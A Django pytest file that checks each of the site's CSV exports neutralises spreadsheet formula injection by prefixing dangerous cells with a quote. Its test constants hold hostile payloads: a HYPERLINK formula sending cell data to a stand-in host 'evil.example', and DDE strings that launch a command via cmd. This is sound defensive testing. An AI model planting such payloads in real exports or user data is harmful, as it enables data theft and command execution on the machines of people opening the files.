"""Every CSV the site serves neutralises the cells a spreadsheet would evaluate (issue 14).

The exports tested in their own files are named in `TESTED_ELSEWHERE`; the others are
tested here, each with a record whose name is a formula. A new `.csv` URL fails
`test_every_csv_url_is_tested_for_formulas` until its test is added.
"""

import csv
import io

import pytest
from django.urls import URLPattern, URLResolver, get_resolver

from directory.models import PublicationStatus
from directory.places import organisation_place_set
from tests.cartography.test_place_network import offer
from tests.factories import MOULINS, make_organisation, make_premises, make_support_offer

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"clic")'
CALC = "+cmd|' /C calc'!A0"
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"

#: URL name -> the test that proves its export neutralises formulas.
TESTED_ELSEWHERE = {
    "directory:export-csv": "tests/directory/test_csv_export.py",
    "directory:funding-coverage-csv": "tests/directory/test_csv_export.py",
    "directory:funding-schemes-export-csv": "tests/directory/test_open_exports.py",
    "cartography:land-export-csv": "tests/cartography/test_land_export_safe.py",
    "network-imports:network-import-template": "tests/importers/web/test_template_safe.py",
}
TESTED_HERE = {
    "directory:data-inclusion-structures-csv",
    "directory:data-inclusion-services-csv",
    "cartography:place-network-csv",
    "cartography:friches-csv",
}


def _csv_url_names(resolver: URLResolver, namespace: str = "") -> set[str]:
    names = set()
    for pattern in resolver.url_patterns:
        if isinstance(pattern, URLResolver):
            inner = f"{namespace}{pattern.namespace}:" if pattern.namespace else namespace
            names |= _csv_url_names(pattern, inner)
        elif isinstance(pattern, URLPattern) and str(pattern.pattern).endswith(".csv"):
            names.add(f"{namespace}{pattern.name}")
    return names


def _rows(client, url: str) -> list[dict]:
    response = client.get(url)
    assert response.status_code == 200
    body = response.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(body), delimiter=";"))


def test_every_csv_url_is_tested_for_formulas():
    assert _csv_url_names(get_resolver()) == set(TESTED_ELSEWHERE) | TESTED_HERE


def test_the_data_inclusion_structures_neutralise_formulas(client):
    make_organisation(HYPERLINK, description=CALC)
    [row] = _rows(client, "/donnees/data-inclusion/structures.csv")
    assert row["nom"] == "'" + HYPERLINK
    assert row["description"] == "'" + CALC


def test_the_data_inclusion_services_neutralise_formulas(client):
    make_support_offer(SUM, description=HYPERLINK, publication_status=PublicationStatus.PUBLISHED)
    [row] = _rows(client, "/donnees/data-inclusion/services.csv")
    assert row["nom"] == "'" + SUM
    assert row["description"] == "'" + HYPERLINK


def test_the_network_of_places_neutralises_formulas(client):
    place = make_organisation(HYPERLINK, location=MOULINS)
    organisation_place_set(organisation=place, roles=["lieu-totem"])
    offer(place, "salles")
    [row] = _rows(client, "/lieux/reseau/export.csv")
    assert row["lieu"] == "'" + HYPERLINK
    assert row["salles"] == "oui"


def test_the_friches_export_neutralises_formulas_and_keeps_numbers(client):
    make_premises(
        CALC, street=SUM, surface_m2=12000, publication_status=PublicationStatus.PUBLISHED
    )
    [row] = _rows(client, "/donnees/friches/export.csv")
    assert row["site_nom"] == "'" + CALC
    assert row["site_adresse"] == "'" + SUM
    assert row["unite_fonciere_surface"] == "12000"
